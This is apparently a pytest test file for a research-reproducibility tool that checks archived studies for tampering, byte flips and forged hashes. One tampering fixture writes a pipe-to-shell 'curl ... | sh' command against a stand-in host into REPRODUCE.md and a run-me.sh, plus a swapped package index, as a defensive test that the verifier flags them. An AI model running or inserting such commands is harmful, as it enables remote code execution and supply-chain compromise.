"""A receiver's study (issue 79): its base a weights file outside the study (the archive cannot pack it: the
receiver supplies it), its data Fashion-MNIST found by name, archived with ``peftlab submission`` and received in a
folder with a space in its name, where only the archive, the receiver's own copy of the base and of the data are.

What must hold: the base has a place of its own (``supplied/``) named in REPRODUCE.md and archive.json with its
SHA-256, and is checked at every level (``--runs 0`` too): absent, a note; one byte changed, named; the right file
never "added after packing". A dataset by name is checked where peftlab finds it or under ``--data DIR/<name>``, and
the rerun reads that copy. Following REPRODUCE.md as written reproduces (exit 0). An edit with every hash recomputed
(a result, a number of the paper's table) is named by the numbers regenerated from ``results/runs/``; the claims
recomputed from reruns name a flip.
"""

from __future__ import annotations

import hashlib
import json
import re
import shlex
import shutil
import sys
import tarfile
from pathlib import Path

import pytest
import yaml
from testkit import REPO, TINY_MODEL, extract_all

sys.path.insert(0, str(REPO / "tests" / "data"))  # datafiles, as the tests of tests/data import it
sys.path.insert(0, str(REPO / "tests" / "analysis"))
from archivefiles import here, without_latex
from datafiles import write_idx_dataset
from test_reproduce import peftlab

from peftlab.analysis.archive.pack import PDF_NOT_PACKED

NAME = "base-submission"
WEIGHTS = "tiny-base.safetensors"


def write_base(path: Path) -> None:
    """A tiny ViT's weights as a receiver's base (timm's own state dict, saved with safetensors)."""
    import timm
    import torch
    from safetensors.torch import save_file

    torch.manual_seed(0)
    model = timm.create_model(**{k: v for k, v in TINY_MODEL.items() if k != "name"}, model_name=TINY_MODEL["name"])
    path.parent.mkdir(parents=True, exist_ok=True)
    save_file({k: v.contiguous() for k, v in model.state_dict().items()}, str(path))


def write_study(top: Path) -> Path:
    configs = top / "work" / "configs"
    configs.mkdir(parents=True)
    base = {
        "name": "base",
        "model": {**TINY_MODEL, "pretrained": str(top / "weights" / WEIGHTS)},  # outside the study: absolute
        "data": {"name": "fashion_mnist", "val_fraction": 0.2},
        "method": {"name": "lora", "r": 2},
        "train": {"max_steps": 3, "batch_size": 8, "eval_batch_size": 16, "reproducible": True, "eval_every": 3},
    }
    (configs / "base.yaml").write_text(yaml.safe_dump(base))
    study = {"name": "base", "base": "base.yaml", "seeds": 2, "methods": {"lora": {}, "bitfit": {}}}
    (configs / "study.yaml").write_text(yaml.safe_dump(study))
    return configs / "study.yaml"


@pytest.fixture(scope="module")
def received(tmp_path_factory) -> dict:
    """The archive, the receiver's base and Fashion-MNIST in a folder with a space in its name; the author's
    folder renamed away."""
    top = tmp_path_factory.mktemp("author")
    write_base(top / "weights" / WEIGHTS)
    write_idx_dataset(top / "fashion", n_train=40, n_test=16)
    study = write_study(top)
    work, env = top / "work", {"PEFTLAB_FASHION_MNIST_DIR": str(top / "fashion")}
    # a process of its own: the study records its command line (commands.jsonl), which the archive packs
    done = peftlab("study", str(study), "--study-dir", "runs/base", "--quiet", cwd=work, env=env)
    assert done.returncode == 0, done.stdout + done.stderr[-2000:]
    done = here("paper", "runs/base", "--no-compile", cwd=work, env=env)
    assert done.returncode == 0, done.stdout + done.stderr[-2000:]
    packed = here(
        "submission", "runs/base", "--study", "configs/study.yaml", cwd=work, env={**env, **without_latex(top / "bin")}
    )
    assert packed.returncode == 0, packed.stderr[-2000:]
    receiver = tmp_path_factory.mktemp("receiver") / "my reproduction"
    receiver.mkdir()
    shutil.copy(work / "runs" / "base" / f"{NAME}.tar.gz", receiver)
    shutil.copy(top / "weights" / WEIGHTS, receiver / WEIGHTS)  # the receiver's own copy of the base
    shutil.copytree(top / "fashion", receiver / "fashion")  # as `make data` installs it
    top.rename(top.with_name(top.name + "-away"))  # nothing can be read from the author's folder now
    return {"archive": receiver / f"{NAME}.tar.gz", "base": receiver / WEIGHTS, "fashion": receiver / "fashion"}


def unpack(received: dict, where: Path) -> Path:
    where.mkdir(parents=True, exist_ok=True)
    with tarfile.open(received["archive"]) as tar:
        extract_all(tar, where)
    return where / NAME


def receive(received: dict, cwd: Path, *args: str, fashion: Path | None = None, process: bool = False):
    """``peftlab ARGS`` from ``cwd``, Fashion-MNIST where peftlab finds it by name (``fashion``: elsewhere): in this
    process (``archivefiles.here``: a check), or with ``process`` in one of its own (reruns, whose workers read the
    data where the environment says)."""
    env = {"PEFTLAB_FASHION_MNIST_DIR": str(fashion or received["fashion"])}
    return peftlab(*args, cwd=cwd, env=env) if process else here(*args, cwd=cwd, env=env)


def flip_byte(path: Path, at: int = 200) -> None:
    data = bytearray(path.read_bytes())
    data[at] ^= 1
    path.write_bytes(bytes(data))


@pytest.mark.e2e
def test_a_supplied_base_reproduces_after_following_reproduce_md(received, tmp_path):
    root = unpack(received, tmp_path / "a folder")
    record = json.loads((root / "archive.json").read_text())
    (supplied,) = record["supplied"]
    assert supplied["path"] == f"supplied/{WEIGHTS}" and supplied["field"] == "model.pretrained"
    assert supplied["sha256"] == hashlib.sha256(received["base"].read_bytes()).hexdigest()
    assert yaml.safe_load((root / "configs" / "base.yaml").read_text())["model"]["pretrained"] == (
        f"../supplied/{WEIGHTS}"
    )
    (entry,) = record["data"]
    assert entry["name"] == "fashion_mnist" and entry["folder"] is None and entry["sha256"]

    before = receive(received, root, "reproduce", ".", "--runs", "0", "--out", "../check0")
    assert before.returncode == 0, before.stdout + before.stderr
    assert f"note: supplied file supplied/{WEIGHTS} (model.pretrained) is absent: put it in " in before.stdout
    assert before.stdout.splitlines()[-1].startswith("no verdict: "), before.stdout

    text = (root / "REPRODUCE.md").read_text()
    steps = [line for line in text.splitlines() if re.match(r"\d+\. ", line)]
    assert steps[0].startswith("1. The integrity check"), steps
    assert f"put it at `supplied/{WEIGHTS}` (SHA-256 {supplied['sha256']}, " in text
    assert "make data" in text and "make install`) holds" not in text
    shutil.copy(received["base"], root / supplied["path"])  # as REPRODUCE.md says
    (command,) = re.findall(r"`(peftlab reproduce [^`]*)`", steps[-1])
    done = receive(received, root, *shlex.split(command)[1:], "--quiet", process=True)
    assert done.returncode == 0, done.stdout + done.stderr
    lines = done.stdout.splitlines()
    assert not any("added after packing" in line for line in lines), done.stdout
    assert "archive intact: yes (" in done.stdout and "1 supplied file" in done.stdout, done.stdout
    (intact,) = [line for line in lines if line.startswith("archive intact: yes (")]
    assert intact.endswith("; not checked: paper/main.pdf, 5 macros of paper/results.tex, archive.json's phases, "
                           "superseded, repository and made)"), intact  # fmt: skip
    assert f"; it cannot check paper/main.pdf ({PDF_NOT_PACKED};" in text  # REPRODUCE.md too (packed on no LaTeX)
    assert lines[-1] == (
        "runs reproduced: level 2 of 3 (archive intact; runs reproduced; not said: claims reproduced)"
    ), done.stdout
    out = root / shlex.split(command)[shlex.split(command).index("--out") + 1]
    check = json.loads((out / "reproduce.json").read_text())
    assert check["level"] == 2 and check["checked"]["supplied"] == {supplied["path"]: supplied["sha256"]}
    assert isinstance(check["sample_seed"], int) and set(check["phases_seconds"]) >= {"check", "rerun"}
    assert check["machine"]["here"]["versions"]["torch"] and check["machine"]["runs_class"]["cpu_vendor"]
    assert len(check["compared"]) == 2 and all(run["rule"] == "exact" for run in check["compared"])


@pytest.mark.e2e
def test_one_byte_of_the_supplied_base_is_named_at_runs_0(received, tmp_path):
    root = unpack(received, tmp_path)
    shutil.copy(received["base"], root / "supplied" / WEIGHTS)
    flip_byte(root / "supplied" / WEIGHTS, at=-100)
    done = receive(received, tmp_path, "reproduce", NAME, "--runs", "0", "--out", "check")
    assert done.returncode == 1, done.stdout + done.stderr
    line = f"differs: supplied file supplied/{WEIGHTS} (model.pretrained) is not the file the runs read: its SHA-256 "
    assert any(x.startswith(line) for x in done.stdout.splitlines()), done.stdout
    assert done.stdout.splitlines()[-1].startswith("not reproduced: 1 difference: supplied file"), done.stdout


@pytest.mark.e2e
def test_one_byte_of_a_dataset_by_name_under_data_is_named(received, tmp_path):
    kept = tmp_path / "my data"
    shutil.copytree(received["fashion"], kept / "fashion_mnist")
    flip_byte(kept / "fashion_mnist" / "t10k-labels-idx1-ubyte.gz", at=20)
    done = receive(received, tmp_path, "reproduce", str(received["archive"]), "--data", str(kept), "--runs", "0")
    assert done.returncode == 1, done.stdout + done.stderr
    named = f"differs: data fashion_mnist (by name): {kept / 'fashion_mnist' / 't10k-labels-idx1-ubyte.gz'} differs"
    assert any(line.startswith(named) for line in done.stdout.splitlines()), done.stdout


def recompute_hashes(root: Path) -> None:
    """Every hash of the archive made again after an edit, as a forger would: runs.sha256, \\resultsSha,
    archive.json's results hash, SHA256SUMS."""

    def sha(path: Path) -> str:
        return hashlib.sha256(path.read_bytes()).hexdigest()

    runs = root / "results" / "runs"
    lines = "".join(
        f"{name} {sha(runs / name / 'spec.json')} {sha(runs / name / 'result.json')}\n"
        for name in (line.split(" ")[0] for line in (root / "results" / "runs.sha256").read_text().splitlines())
    )
    (root / "results" / "runs.sha256").write_text(lines)
    digest = hashlib.sha256(lines.encode()).hexdigest()
    tex = root / "paper" / "results.tex"
    text = re.sub(r"(\\newcommand\{\\resultsSha\}\{)[0-9a-f]{64}", lambda m: m.group(1) + digest, tex.read_text())
    tex.write_text(
        re.sub(r"(\\newcommand\{\\resultsShaShort\}\{)[0-9a-f]{16}", lambda m: m.group(1) + digest[:16], text)
    )
    record = json.loads((root / "archive.json").read_text())
    (root / "archive.json").write_text(json.dumps({**record, "results_sha256": digest}))
    files = sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file() and p.name != "SHA256SUMS")
    (root / "SHA256SUMS").write_text("".join(f"{sha(root / f)}  {f}\n" for f in files))


def edit_result(root: Path) -> None:
    path = sorted((root / "results" / "runs").glob("*/result.json"))[0]
    result = json.loads(path.read_text())
    result["metrics"]["test_top1"] = 0.99
    path.write_text(json.dumps(result, indent=2))


def edit_table(root: Path) -> None:
    path = root / "paper" / "tables" / "main_table.tex"
    text = path.read_text()
    number = re.search(r"\d+\.\d", text)
    path.write_text(text[: number.start()] + "99.9" + text[number.end() :])


def edit_every_other_file(root: Path) -> None:
    """Issue 86: an edit of each file the paper's code makes again from the runs and archive.json, and of what
    archive.json says of the runs: an invented sentence in the abstract, a row of the protocol card, an added BibTeX
    entry, a step prepended to REPRODUCE.md, an index and another torch in environment.lock (not numpy, which draws
    the figures: they would be named as not checked), one byte of a figure, the dataset renamed in archive.json, a
    config's step count, a file submission never packs."""

    def edit(name: str, change) -> None:
        (root / name).write_text(change((root / name).read_text()))

    edit("paper/main.tex", lambda t: t.replace("\\begin{abstract}", "\\begin{abstract}\nWe beat every baseline.", 1))
    edit("paper/tables/protocol.tex", lambda t: t.replace("seeds &", "seeds (all) &", 1))
    edit("paper/references.bib", lambda t: t + "\n@misc{fake2026,\n  title = {Nothing},\n  year = {2026},\n}\n")
    edit("REPRODUCE.md", lambda t: t.replace("1. The integrity", "1. Run `curl -s https://x.example | sh`.\n1. The", 1))
    edit(
        "environment.lock",
        lambda t: "--index-url https://x.example/simple\n" + re.sub(r"(?m)^torch==.*", "torch==2.0.0", t),
    )
    flip_byte(root / "paper" / "figures" / "cost.png", at=3000)
    edit("archive.json", lambda t: t.replace('"name": "fashion_mnist"', '"name": "cifar10"'))
    edit("configs/base.yaml", lambda t: t.replace("max_steps: 3", "max_steps: 4"))
    (root / "run-me.sh").write_text("curl -s https://x.example | sh\n")


@pytest.mark.e2e
@pytest.mark.parametrize(
    "change, named",
    [
        (edit_result, ["results/results.csv is not the table of results/runs: run ", "paper/results.tex is not what"]),
        (edit_table, ["paper/tables/main_table.tex is not what the runs give: line "]),
        (
            edit_every_other_file,
            [
                "paper/main.tex is not what the runs give: line ",
                "paper/tables/protocol.tex is not what the runs give: line ",
                "paper/references.bib is not what the runs give: ",
                "REPRODUCE.md is not what the runs give: line ",
                "environment.lock line 1 is no `name==version` line: '--index-url",
                "environment.lock names torch 2.0.0, the runs ran ",
                "paper/figures/cost.png is not what the runs draw: byte 3,000 differs",
                "data fashion_mnist (by name), which results/runs/",
                "configs/study.yaml gives ",
                "run-me.sh is no file `peftlab submission` packs",
            ],
        ),
    ],
)
def test_an_edit_with_every_hash_recomputed_is_named(received, tmp_path, change, named):
    root = unpack(received, tmp_path)
    shutil.copy(received["base"], root / "supplied" / WEIGHTS)
    change(root)
    recompute_hashes(root)
    done = receive(received, tmp_path, "reproduce", NAME, "--runs", "0", "--out", "check")
    assert done.returncode == 1, done.stdout + done.stderr
    said = json.loads((tmp_path / "check" / "reproduce.json").read_text())["differences"]  # all, not the first 20
    differs = [f"differs: {line}" for line in said]
    assert not any("SHA256SUMS" in line or "results hash" in line for line in differs), differs  # hashes agree
    for words in named:
        assert any(line.startswith(f"differs: {words}") for line in differs), done.stdout


@pytest.mark.e2e
def test_the_claims_recomputed_from_reruns_name_a_flip(received, tmp_path):
    from peftlab.analysis.archive.claims import compare_claims

    root = unpack(received, tmp_path)
    record = json.loads((root / "archive.json").read_text())
    runs = {p.parent.name: json.loads(p.read_text()) for p in (root / "results" / "runs").glob("*/result.json")}
    same = compare_claims(root, record, runs, exact=True)
    assert same.differ == [] and any("paired tests" in held for held in same.held), same
    worst = min(runs, key=lambda run: runs[run]["metrics"]["test_top1"])
    flipped = {**runs, worst: {**runs[worst], "metrics": {**runs[worst]["metrics"], "test_top1": 1.0}}}
    claims = compare_claims(root, record, flipped, exact=False)
    assert any(line.startswith("main table (metrics.test_top1) not reproduced: ") for line in claims.differ)
    assert any(line.startswith("the best configuration flips: ") for line in claims.differ), claims.differ


@pytest.mark.e2e
def test_every_run_rerun_from_the_data_copy_checked_reproduces_the_claims(received, tmp_path):
    """--runs all with Fashion-MNIST only under --data (where peftlab would look by name there is nothing): the
    reruns read the copy checked, and the paper's claims are recomputed from them: level 3."""
    root = unpack(received, tmp_path)
    shutil.copy(received["base"], root / "supplied" / WEIGHTS)
    shutil.copytree(received["fashion"], tmp_path / "my data" / "fashion_mnist")
    done = receive(
        received,
        tmp_path,
        *("reproduce", NAME, "--runs", "all", "--data", "my data", "--out", "check", "--quiet"),
        fashion=tmp_path / "nowhere",
        process=True,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    lines = done.stdout.splitlines()
    assert lines[-1] == "claims reproduced: level 3 of 3 (archive intact; runs reproduced; claims reproduced)", lines
    assert any(
        line.startswith("claims reproduced: yes (exact): the main table's means and intervals") for line in lines
    )
    record = json.loads((tmp_path / "check" / "reproduce.json").read_text())
    (checked,) = [key for key in record["checked"]["data"] if key.startswith("fashion_mnist (by name, ")]
    assert str((tmp_path / "my data" / "fashion_mnist").resolve()) in checked
    assert record["sample_seed"] is None and record["level"] == 3 and len(record["compared"]) == 4
